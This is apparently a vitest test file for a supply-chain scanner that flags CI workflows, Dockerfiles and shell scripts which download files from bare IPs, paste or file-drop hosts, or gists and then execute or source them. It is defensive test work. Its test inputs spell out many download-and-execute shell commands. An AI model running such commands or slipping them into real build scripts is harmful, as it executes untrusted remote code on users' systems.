import { describe, expect, it } from 'vitest';
import { extractDockerfile } from '../../../src/ecosystems/dockerfile/extract.js';
import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
import { scriptRunIn, suspiciousDownloadRun } from '../../../src/ecosystems/shell/download-run.js';
import { scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
import { makeFile } from '../../support/snapshot-factory.js';

const hit = (...lines: string[]) => suspiciousDownloadRun(lines);

describe('downloaded-binary-run', () => {
  it('finds a download from a bare public IP, a host named after one, or a paste, tunnel or file-drop host, that is made executable or run', () => {
    expect(hit('curl -sLo /tmp/h https://185.199.1.2/tools/h && chmod +x /tmp/h && /tmp/h warm')).toEqual({ index: 0, source: 'a bare IP address (https://185.199.1.2)', plainHttp: false });
    expect(hit('wget -q https://transfer.sh/abc/helper -O h', './h --init')?.source).toBe('transfer.sh');
    expect(hit('curl -fsSL -o agent https://45-139-104-115.sslip.io/agent', 'sh agent')?.index).toBe(0);
    expect(hit('curl -sO https://0x0.st/Hx.sh', 'bash Hx.sh')?.source).toBe('0x0.st');
    expect(hit('Invoke-WebRequest https://file.io/x -OutFile u.exe; chmod 755 u.exe')?.source).toBe('file.io');
    expect(suspiciousDownloadRun(['ADD --chmod=755 https://185.199.1.2/h /usr/local/bin/h'], { dockerfile: true })?.index).toBe(0);
    expect(suspiciousDownloadRun(['ADD https://185.199.1.2/h /usr/local/bin/h', 'RUN /usr/local/bin/h --init'], { dockerfile: true })?.index).toBe(0);
  });

  it('finds a file fetched over plain HTTP from a named public host and run (medium where it is reported: anyone on the path can swap it)', () => {
    expect(hit('wget http://downloads.example.org/tools/helper-1.2 -O helper && chmod +x helper')).toEqual({ index: 0, source: 'plain HTTP (downloads.example.org)', plainHttp: true });
    expect(hit('curl -sLo /tmp/h http://10.0.0.5/h && chmod +x /tmp/h')).toBeNull();
    expect(hit('curl -sLo /tmp/h http://localhost:8080/h && chmod +x /tmp/h')).toBeNull();
  });

  it('leaves alone: release pages and registries, private addresses, data read not run, uploads, and pipes (curl-pipe-shell’s)', () => {
    expect(hit('curl -sLo /usr/local/bin/kind https://github.com/kubernetes-sigs/kind/releases/download/v0.24.0/kind-linux-amd64 && chmod +x /usr/local/bin/kind')).toBeNull();
    expect(hit('wget http://192.168.1.10/fw.bin -O fw.bin && chmod +x flash && ./flash fw.bin')).toBeNull();
    expect(hit('curl -sLo /tmp/data.json https://185.199.1.2/data.json && jq . /tmp/data.json')).toBeNull();
    expect(hit('curl --upload-file ./build.log https://transfer.sh/build.log')).toBeNull();
    expect(hit('curl -s https://185.199.1.2/i.sh | sh')).toBeNull();
    expect(suspiciousDownloadRun(['ADD https://github.com/krallin/tini/releases/download/v0.19.0/tini-static /tini', 'RUN chmod +x /tini'], { dockerfile: true })).toBeNull();
  });

  it('is reported by workflows, Dockerfiles and scripts, high, at the download', () => {
    const workflow = ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: |', '          curl -sLo /tmp/c https://185.199.1.2/c', '          chmod +x /tmp/c && /tmp/c', ''].join('\n');
    expect(extractWorkflow(workflow, '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['high', 7]]);
    const dockerfile = 'FROM alpine:3.20\nRUN apk add curl\nADD https://transfer.sh/a/h /usr/local/bin/h\nRUN chmod +x /usr/local/bin/h\n';
    expect(extractDockerfile(dockerfile, 'Dockerfile').findings?.filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['high', 3]]);
    const patch = ['@@ -1,1 +1,3 @@', ' #!/bin/sh', '+curl -sLo /tmp/h https://185.199.1.2/h', '+chmod +x /tmp/h && /tmp/h'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch })).filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['high', 2]]);
    const plain = ['@@ -1,1 +1,3 @@', ' #!/bin/sh', '+curl -sLo /tmp/h http://downloads.example.org/h', '+chmod +x /tmp/h && /tmp/h'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch: plain })).filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['medium', 2]]);
    // A download the base already had, moved within the script, is not new.
    const moved = ['@@ -1,3 +1,3 @@', ' #!/bin/sh', '-curl -sLo /tmp/h https://185.199.1.2/h', '+curl -sLo /tmp/h https://185.199.1.2/h', ' chmod +x /tmp/h && /tmp/h'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch: moved })).map((f) => f.id)).not.toContain('downloaded-binary-run');
  });
});

describe('downloaded-binary-run: sourced files and gists', () => {
  it('reads `.` and `source` of the downloaded file, and a quoted name, as running it; a gist as a paste', () => {
    expect(hit('TMP=$(mktemp)', 'curl -fsSL -o "$TMP" https://gist.githubusercontent.com/someone/abc/raw/setup.sh', '. "$TMP"')).toEqual({ index: 1, source: 'a gist (a paste anyone can create)', plainHttp: false });
    expect(hit('curl -fsSL https://gist.githubusercontent.com/someone/abc/raw/setup.sh -o /tmp/s.sh && source /tmp/s.sh')?.index).toBe(0);
    expect(hit('curl -sLo /tmp/x https://transfer.sh/abc/x', '"/tmp/x" --init')?.source).toBe('transfer.sh');
  });
  it('leaves a gist only read, and a `.` that is an argument, alone', () => {
    expect(hit('curl -fsSL -o notes.md https://gist.githubusercontent.com/someone/abc/raw/notes.md', 'cat notes.md')).toBeNull();
    expect(hit('curl -sLo /tmp/d.json https://transfer.sh/abc/d.json', 'jq . /tmp/d.json')).toBeNull();
  });
});

describe('curl-pipe-shell in two steps: a script downloaded to a file, then sourced or run (scriptRunIn)', () => {
  const url = (...lines: string[]) => scriptRunIn(lines.join('\n'))?.url ?? null;
  it('finds the file sourced, given to a shell or an interpreter, or a script-named file run as a command', () => {
    expect(url('TMP=$(mktemp)', 'curl -fsSL -o "$TMP" https://tools.example-dev.io/setup.sh', '. "$TMP"')).toBe('https://tools.example-dev.io/setup.sh');
    expect(url('curl -fsSL -o "${f}" https://tools.example-dev.io/bootstrap; source "$f"')).toBe('https://tools.example-dev.io/bootstrap');
    expect(url('curl -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y')).toBe('https://sh.rustup.rs');
    expect(url('curl -fsSLO https://tools.example-dev.io/v2/install.sh', 'chmod +x install.sh && ./install.sh')).toBe('https://tools.example-dev.io/v2/install.sh');
    expect(url('wget -q https://bootstrap.example.dev/get-tool.py', 'sudo python3 get-tool.py')).toBe('https://bootstrap.example.dev/get-tool.py');
    expect(url('curl -fsSL https://tools.example-dev.io/x -o $HOME/x', 'bash -e $HOME/x')).toBe('https://tools.example-dev.io/x');
  });
  it('leaves alone: a binary fetched and run, an archive, a file read or copied, a pipe, and a text that checks a checksum', () => {
    expect(url('curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64', 'chmod +x ./kind', './kind create cluster')).toBeNull();
    expect(url('curl -fsSLo tools.tar.gz https://github.com/org/tool/releases/download/v1.2/tool.tar.gz && tar xzf tools.tar.gz -C bin')).toBeNull();
    expect(url('curl -fsSL -o schema.json https://raw.githubusercontent.com/acme/api/main/schema.json', 'jq . schema.json', 'curl -o env.sh https://example.com/env.sh', 'cat env.sh', 'cp env.sh /etc/profile.d/')).toBeNull();
    expect(url('curl -fsSL https://sh.rustup.rs | sh -s -- -y')).toBeNull();
    expect(url('curl -LO https://github.com/org/tool/releases/download/v1.2/install.sh', 'echo "$SUM  install.sh" | sha256sum -c', 'sh install.sh')).toBeNull();
  });
  it('counts a checksum check only between the download and the run: one after the run, or of a file fetched before, vouches for nothing', () => {
    expect(url('curl -LO https://tools.example-dev.io/install.sh', 'sh install.sh', 'sha256sum -c SHA256SUMS')).toBe('https://tools.example-dev.io/install.sh');
    expect(url('curl -fsSLo node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz', 'echo "$NODE_SUM  node.tgz" | sha256sum -c -', 'curl -fsSL -o setup.sh https://tools.example-dev.io/setup.sh', 'bash setup.sh')).toBe('https://tools.example-dev.io/setup.sh');
    // Checked between, by a checksum list or a signature.
    expect(url('curl -fsSLO https://tools.example-dev.io/install.sh', 'curl -fsSLO https://tools.example-dev.io/SHA256SUMS', 'sha256sum -c --ignore-missing SHA256SUMS', 'sh install.sh')).toBeNull();
    expect(url('curl -fsSLO https://tools.example-dev.io/install.sh', 'gpg --verify install.sh.asc install.sh', 'sh install.sh')).toBeNull();    // A check between of another file (fetched before, unpacked after) vouches for nothing of this one.
    expect(url('curl -fsSLo node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz', 'curl -fsSL -o setup.sh https://tools.example-dev.io/setup.sh', 'echo "$NODE_SUM  node.tgz" | sha256sum -c -', 'tar xzf node.tgz', 'bash setup.sh')).toBe('https://tools.example-dev.io/setup.sh');
  });
  it('is reported as curl-pipe-shell with the pipe\'s severities: medium in a script, high in a CI pipeline, medium there from a vendor\'s installer; a gist is downloaded-binary-run\'s', () => {
    const patch = (...added: string[]) => ['@@ -1,1 +1,' + String(added.length + 1) + ' @@', ' #!/bin/sh', ...added.map((l) => `+${l}`)].join('\n');
    const found = (path: string, p: string) => scriptDownloadFindings(makeFile(path, { patch: p })).map((f) => [f.id, f.severity, f.line]);
    expect(found('scripts/install.sh', patch('f=$(mktemp)', 'curl -fsSL -o "$f" https://tools.example-dev.io/setup.sh', '. "$f"'))).toEqual([['curl-pipe-shell', 'medium', 3]]);
    expect(found('scripts/install.sh', patch('curl -fsSL -o /tmp/s.sh http://tools.example-dev.io/setup.sh && sh /tmp/s.sh'))).toEqual([['downloaded-binary-run', 'medium', 2]]);
    expect(found('scripts/install.sh', patch('curl -fsSL -o "$TMP" https://gist.githubusercontent.com/someone/abc/raw/setup.sh', '. "$TMP"'))).toEqual([['downloaded-binary-run', 'high', 2]]);
    expect(found('.gitlab-ci.yml', ['@@ -1,2 +1,4 @@', ' test:', '   script:', '+    - curl -fsSL -o setup.sh https://tools.example-dev.io/setup.sh', '+    - sh setup.sh'].join('\n'))).toEqual([['curl-pipe-shell', 'high', 3]]);
    expect(found('.gitlab-ci.yml', ['@@ -1,2 +1,4 @@', ' test:', '   script:', "+    - curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs", '+    - sh rustup-init.sh -y'].join('\n'))).toEqual([['curl-pipe-shell', 'medium', 3]]);
    // The same download and run on the base side: not new.
    expect(found('scripts/install.sh', ['@@ -1,3 +1,3 @@', ' #!/bin/sh', '-curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && sh /tmp/s.sh', '+curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && sh /tmp/s.sh -q'].join('\n'))).toEqual([]);
    // The same source at another version is not new either.
    expect(found('scripts/install.sh', ['@@ -1,2 +1,2 @@', ' #!/bin/sh', '-curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2.3/setup.sh && sh /tmp/s.sh', '+curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3.0/setup.sh && sh /tmp/s.sh'].join('\n'))).toEqual([]);
    expect(found('scripts/kind.sh', patch('curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64', 'chmod +x ./kind', './kind create cluster'))).toEqual([]);
  });
  it('is reported in workflows and Dockerfiles as the pipe is there: high, medium from a vendor\'s installer', () => {
    const workflow = (run: string[]) => ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: |', ...run.map((l) => `          ${l}`), ''].join('\n');
    const wf = (run: string[]) => extractWorkflow(workflow(run), '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.severity, f.line]);
    expect(wf(['curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh', '. /tmp/s.sh'])).toEqual([['high', 7]]);
    expect(wf(['curl -LsSf -o uv-install.sh https://astral.sh/uv/install.sh', 'sh uv-install.sh'])).toEqual([['medium', 7]]);
    expect(wf(['curl -fsSLo /usr/local/bin/kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64', 'chmod +x /usr/local/bin/kind'])).toEqual([]);
    // Downloaded in one step, run by a later step of the job.
    const steps = ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: curl -fsSL -o setup.sh https://tools.example-dev.io/setup.sh', '      - run: make', '      - run: bash setup.sh', ''].join('\n');
    expect(extractWorkflow(steps, '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.severity, f.line])).toEqual([['high', 6]]);
    const docker = (run: string) => extractDockerfile(`FROM debian:bookworm\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.severity, f.line]);
    expect(docker('RUN curl -fsSL https://deb.nodesource.com/setup_20.x -o nodesource_setup.sh && bash nodesource_setup.sh')).toEqual([['high', 3]]);
    expect(docker("RUN curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y")).toEqual([['medium', 3]]);
    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh\nRUN apt-get update\nRUN bash /tmp/setup.sh')).toEqual([['high', 3]]);
    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh\nRUN cat /tmp/setup.sh')).toEqual([]);
    expect(docker('RUN curl -fsSLo /tmp/t.tgz https://github.com/org/tool/releases/download/v1.2/tool.tgz && tar xzf /tmp/t.tgz -C /usr/local/bin')).toEqual([]);
  });
  it('reports each distinct script a Dockerfile downloads and runs, once per source', () => {
    const docker = (run: string) => extractDockerfile(`FROM debian:bookworm\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.severity, f.line, f.key.split('\u0000')[2]]);
    // Two installers, from two hosts, in two RUNs: both.
    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nRUN curl -fsSL -o /tmp/agent.sh https://cdn.agent-mirror.dev/agent.sh && sh /tmp/agent.sh')).toEqual([
      ['curl-pipe-shell', 'high', 3, 'script:https://tools.example-dev.io/setup.sh'],
      ['curl-pipe-shell', 'high', 4, 'script:https://cdn.agent-mirror.dev/agent.sh'],
    ]);
    // A vendor's installer and another host's script in one RUN: each with its own severity.
    expect(docker("RUN curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y && curl -fsSLo /tmp/b.sh https://tools.example-dev.io/bootstrap.sh && . /tmp/b.sh")).toEqual([
      ['curl-pipe-shell', 'medium', 3, 'script:https://sh.rustup.rs'],
      ['curl-pipe-shell', 'high', 3, 'script:https://tools.example-dev.io/bootstrap.sh'],
    ]);
    // After a script fetched with ADD and run, a different one fetched with curl and run.
    expect(docker('ADD https://get.example-tools.dev/install.sh /tmp/install.sh\nRUN sh /tmp/install.sh\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([
      ['curl-pipe-shell', 'high', 3, 'add:https://get.example-tools.dev/install.sh'],
      ['curl-pipe-shell', 'high', 5, 'script:https://tools.example-dev.io/setup.sh'],
    ]);
    // Next to a file from a bare IP run (downloaded-binary-run's), a script from a named host run.
    expect(docker('RUN curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([
      ['downloaded-binary-run', 'high', 3, 'RUN curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h'],
      ['curl-pipe-shell', 'high', 4, 'script:https://tools.example-dev.io/setup.sh'],
    ]);
  });
  it('reports each distinct script a script or CI pipeline downloads and runs, but those the base side already ran', () => {
    const found = (path: string, p: string) => scriptDownloadFindings(makeFile(path, { patch: p })).map((f) => [f.id, f.severity, f.line]);
    const first = 'curl -fsSL -o /tmp/a.sh https://tools.example-dev.io/v1.2/setup.sh && sh /tmp/a.sh';
    const second = 'curl -fsSL -o /tmp/b.sh https://cdn.agent-mirror.dev/agent.sh && . /tmp/b.sh';
    expect(found('scripts/install.sh', ['@@ -1,1 +1,3 @@', ' #!/bin/sh', `+${first}`, `+${second}`].join('\n'))).toEqual([
      ['curl-pipe-shell', 'medium', 2],
      ['curl-pipe-shell', 'medium', 3],
    ]);
    // The base ran the first (at another version): only the second is new.
    expect(found('scripts/install.sh', ['@@ -1,2 +1,3 @@', ' #!/bin/sh', '-curl -fsSL -o /tmp/a.sh https://tools.example-dev.io/v1.1/setup.sh && sh /tmp/a.sh', `+${first}`, `+${second}`].join('\n'))).toEqual([['curl-pipe-shell', 'medium', 3]]);
    // Beside a gist's script (downloaded-binary-run's), a named host's script run in a CI pipeline.
    expect(found('.gitlab-ci.yml', ['@@ -1,2 +1,4 @@', ' test:', '   script:', '+    - curl -fsSL -o "$T" https://gist.githubusercontent.com/someone/abc/raw/s.sh && . "$T"', `+    - ${second}`].join('\n'))).toEqual([
      ['curl-pipe-shell', 'high', 4],
      ['downloaded-binary-run', 'high', 3],
    ]);
  });
  it('reports each distinct script a workflow job downloads and runs, once per source', () => {
    const workflow = (steps: string[]) => ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', ...steps.map((l) => `      - run: ${l}`), ''].join('\n');
    const wf = (steps: string[]) => extractWorkflow(workflow(steps), '.github/workflows/ci.yml').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.severity, f.line]);
    // A vendor's installer, then another host's script: each, with its own severity.
    expect(wf(['curl -LsSf -o uv-install.sh https://astral.sh/uv/install.sh && sh uv-install.sh', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && . /tmp/s.sh'])).toEqual([
      ['curl-pipe-shell', 'medium', 6],
      ['curl-pipe-shell', 'high', 7],
    ]);
    // The same script fetched and run in two steps, or at another version: one.
    expect(wf(['curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2/setup.sh && . /tmp/s.sh', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3/setup.sh && . /tmp/s.sh'])).toEqual([['curl-pipe-shell', 'high', 6]]);
    // Beside a bare IP's file run (downloaded-binary-run's), a named host's script run.
    expect(wf(['curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h', 'curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/setup.sh && bash /tmp/s.sh'])).toEqual([
      ['curl-pipe-shell', 'high', 7],
      ['downloaded-binary-run', 'high', 6],
    ]);
  });
  it('reports the same download once: the same script in two stages, the same source at another version, a bare IP\'s script', () => {
    const docker = (run: string) => extractDockerfile(`FROM debian:bookworm AS build\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.line]);
    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([['curl-pipe-shell', 3]]);
    expect(docker('RUN curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2.3/setup.sh && sh /tmp/s.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3.0/setup.sh && sh /tmp/s.sh')).toEqual([['curl-pipe-shell', 3]]);
    expect(docker('RUN curl -fsSL -o /tmp/s.sh http://45.139.104.115/s.sh && sh /tmp/s.sh')).toEqual([['downloaded-binary-run', 3]]);
    // Another RUN's archive checked with sha256sum vouches for nothing the next RUN fetches and runs.
    expect(docker('RUN curl -fsSLo /tmp/node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz && echo "$NODE_SUM  /tmp/node.tgz" | sha256sum -c - && tar -xzf /tmp/node.tgz -C /usr/local --strip-components=1\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([['curl-pipe-shell', 4]]);
    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && echo "$SETUP_SUM  /tmp/setup.sh" | sha256sum -c - && bash /tmp/setup.sh')).toEqual([]);
    // A second script downloaded but only read, and one checked: nothing more.
    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nRUN curl -fsSL -o /tmp/env.sh https://tools.example-dev.io/env.sh && cat /tmp/env.sh')).toEqual([['curl-pipe-shell', 3]]);
  });
});
